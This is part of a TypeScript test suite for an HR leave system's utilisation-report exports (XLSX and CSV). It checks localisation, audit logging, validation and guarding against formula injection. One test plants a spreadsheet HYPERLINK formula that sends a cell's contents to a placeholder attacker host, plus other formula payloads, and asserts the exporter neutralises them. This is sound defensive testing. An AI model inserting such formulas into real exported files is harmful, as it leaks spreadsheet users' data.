    const bad = await call(ctx, 'hradmin', 'GET', '/leave/admin/reports/utilisation?year=20');
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({ field: 'year' });
  });

  it('downloads the report as an .xlsx workbook with numbers as numbers', async () => {
    const ctx = await setup();
    await applyAs(ctx, 'hr', { leaveTypeId: 'LVE0001', startDate: '2027-03-08', endDate: '2027-03-09' });
    const response = await call(ctx, 'itadmin', 'GET', '/leave/admin/reports/utilisation.xlsx?year=2027&lang=ms');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('spreadsheetml');
    expect(response.headers['content-disposition']).toContain('leave-utilisation-2027.xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.name).toBe('Penggunaan 2027');
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      'Jabatan',
      'Nama jabatan',
      'Id jenis cuti',
      'Jenis cuti',
      'Kakitangan',
      'Hari diambil',
      'Hari menunggu',
    ]);
    expect(sheet.getRow(2).values).toEqual([undefined, 'HR', 'Human Resources', 'LVE0001', 'Annual Leave', 1, 0, 2]);
    const bad = await call(ctx, 'itadmin', 'GET', '/leave/admin/reports/utilisation.xlsx?lang=fr');
    expect(bad.json()).toMatchObject({ field: 'lang' });
  });

  it('downloads the report as CSV, guarded, and audits each download: who, the year and how many rows', async () => {
    const ctx = await setup();
    await applyAs(ctx, 'hr', { leaveTypeId: 'LVE0001', startDate: '2027-03-08', endDate: '2027-03-09' });
    await ctx.database.db.update(leaveTypes).set({ name: '@SUM(1+1)' }).where(eq(leaveTypes.id, 'LVE0001'));
    const csv = await call(ctx, 'hradmin', 'GET', '/leave/admin/reports/utilisation.csv?year=2027');
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toContain('leave-utilisation-2027.csv');
    expect(csv.body.replace(/^\uFEFF/, '').split('\r\n')).toEqual([
      'Department,Department name,Leave type id,Leave type,Staff,Days taken,Days pending',
      "HR,Human Resources,LVE0001,'@SUM(1+1),1,0,2",
      '',
    ]);
    const malay = await call(ctx, 'itadmin', 'GET', '/leave/admin/reports/utilisation.csv?year=2027&lang=ms');
    expect(malay.body).toContain('Jabatan,Nama jabatan');
    const xlsx = await call(ctx, 'itadmin', 'GET', '/leave/admin/reports/utilisation.xlsx?year=2026');
    expect(xlsx.statusCode).toBe(200);
    const trail = (await trailOf(ctx)).filter((entry) => entry.action === 'report.export');
    expect(trail.map(({ actorId, target, targetLabel, after }) => ({ actorId, target, targetLabel, after }))).toEqual([
      {
        actorId: users.hradmin.sub,
        target: null,
        targetLabel: 'leave-utilisation-2027.csv',
        after: { filters: { year: 2027, lang: 'en' }, rows: 1, complete: true },
      },
      {
        actorId: users.itadmin.sub,
        target: null,
        targetLabel: 'leave-utilisation-2027.csv',
        after: { filters: { year: 2027, lang: 'ms' }, rows: 1, complete: true },
      },
      {
        actorId: users.itadmin.sub,
        target: null,
        targetLabel: 'leave-utilisation-2026.xlsx',
        after: { filters: { year: 2026, lang: 'en' }, rows: 0, complete: true },
      },
    ]);
    const bad = await call(ctx, 'hradmin', 'GET', '/leave/admin/reports/utilisation.csv?year=20');
    expect(bad.json()).toMatchObject({ field: 'year' });
    expect((await trailOf(ctx)).filter((entry) => entry.action === 'report.export')).toHaveLength(3);
  });

  it('writes a name a spreadsheet would run as a formula as guarded text (docs/product/files-mail-logs.md §4)', async () => {
    const ctx = await setup();
    await applyAs(ctx, 'hr', { leaveTypeId: 'LVE0001', startDate: '2027-03-08', endDate: '2027-03-09' });
    // An HR admin names departments and leave types.
    const department = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    await ctx.database.db.update(departments).set({ name: department }).where(eq(departments.code, 'HR'));
    await ctx.database.db.update(leaveTypes).set({ name: '\t-2+3' }).where(eq(leaveTypes.id, 'LVE0001'));
    const response = await call(ctx, 'itadmin', 'GET', '/leave/admin/reports/utilisation.xlsx?year=2027');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    expect(workbook.worksheets[0]!.getRow(2).values).toEqual([
      undefined,
      'HR',
      `'${department}`,
      'LVE0001',
      "'\t-2+3",
      1,
      0,
      2,
    ]);
  });
});
